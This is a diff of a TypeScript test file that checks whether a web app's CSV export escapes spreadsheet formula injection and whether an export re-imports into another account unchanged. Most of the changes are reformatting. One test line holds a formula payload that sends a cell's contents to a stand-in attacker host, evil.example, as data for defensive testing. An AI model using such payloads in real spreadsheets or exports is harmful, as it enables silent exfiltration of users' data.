@@ -1,6 +1,7 @@
 import { parse } from 'csv-parse/sync';
+
 import { createSubscription } from '../support/subscriptions';
-import { graphqlData, signUp, startTestApp, type SignedUpUser, type TestApp } from '../support/test-app';
+import { graphqlData, type SignedUpUser, signUp, startTestApp, type TestApp } from '../support/test-app';
 
 /**
  * Spreadsheet formula injection through the CSV export: a text that begins with a character a spreadsheet
@@ -29,7 +30,16 @@ const STARTS: Array<[string, string]> = [
 /** Names, folders, payment methods, categories and tags are trimmed by the domain: they cannot begin with white space. */
 const trimmed = (start: string) => start.trim() === '';
 
-const TEXT_COLUMNS = ['product_name', 'description', 'note', 'tags', 'folder_name', 'payment_method_name', 'product_category_name', 'company_name'] as const;
+const TEXT_COLUMNS = [
+  'product_name',
+  'description',
+  'note',
+  'tags',
+  'folder_name',
+  'payment_method_name',
+  'product_category_name',
+  'company_name',
+] as const;
 type TextColumn = (typeof TEXT_COLUMNS)[number];
 
 const download = async (user: SignedUpUser) => {
@@ -90,7 +100,11 @@ async function seed(user: SignedUpUser): Promise<Array<Record<TextColumn, string
   const expected: Array<Record<TextColumn, string>> = [];
   for (const [start, label] of STARTS) {
     const named = (text: string) => (trimmed(start) ? text : `${start}${text}`);
-    const ids = await graphqlData<{ createFolder: { id: number }; createPaymentMode: { id: number }; createProductCategory: { id: number } }>(
+    const ids = await graphqlData<{
+      createFolder: { id: number };
+      createPaymentMode: { id: number };
+      createProductCategory: { id: number };
+    }>(
       testApp,
       user.token,
       `mutation($folder: String!, $mode: String!, $category: String!) {
@@ -168,7 +182,12 @@ it('writes a text that begins with =, +, -, @, tab or CR (or a full-width one) a
   // Spelled out for the first record: the raw cells of "=" and of the odd one.
   const named = (name: string) => rows.find((row) => row.product_name === name);
   expect(named("'=SUM(1+1) equals")?.description).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"equals")`);
-  expect(named('Apostrophes')).toMatchObject({ description: "''=1+1", note: "'-5.00", tags: "'''@twice", company_name: "'plain" });
+  expect(named('Apostrophes')).toMatchObject({
+    description: "''=1+1",
+    note: "'-5.00",
+    tags: "'''@twice",
+    company_name: "'plain",
+  });
 });
 
 it('reads its own export back exactly: an export imported (CSV) into another account gives every text as it was written', async () => {
@@ -181,10 +200,16 @@ it('reads its own export back exactly: an export imported (CSV) into another acc
     { field: 'FOLDER', column: 'folder_name' },
     { field: 'CATEGORY', column: 'product_category_name' },
   ];
-  expect(await importCsv(cat, Buffer.from(exported), mapping)).toMatchObject({ total: expected.length, created: expected.length, refused: 0 });
+  expect(await importCsv(cat, Buffer.from(exported), mapping)).toMatchObject({
+    total: expected.length,
+    created: expected.length,
+    refused: 0,
+  });
   // The CSV import takes no company name: everything else it reads.
-  const imported = (texts: Array<Record<TextColumn, string>>) => texts.map(({ company_name: _company, ...rest }) => rest);
-  const byName = (a: { product_name: string }, b: { product_name: string }) => a.product_name.localeCompare(b.product_name);
+  const imported = (texts: Array<Record<TextColumn, string>>) =>
+    texts.map(({ company_name: _company, ...rest }) => rest);
+  const byName = (a: { product_name: string }, b: { product_name: string }) =>
+    a.product_name.localeCompare(b.product_name);
   expect(imported(await storedTexts(cat)).sort(byName)).toEqual(imported(expected).sort(byName));
   expect((await storedTexts(ann)).sort(byName)).toEqual([...expected].sort(byName));
   // And its export is the same file in those columns, raw cell for raw cell.
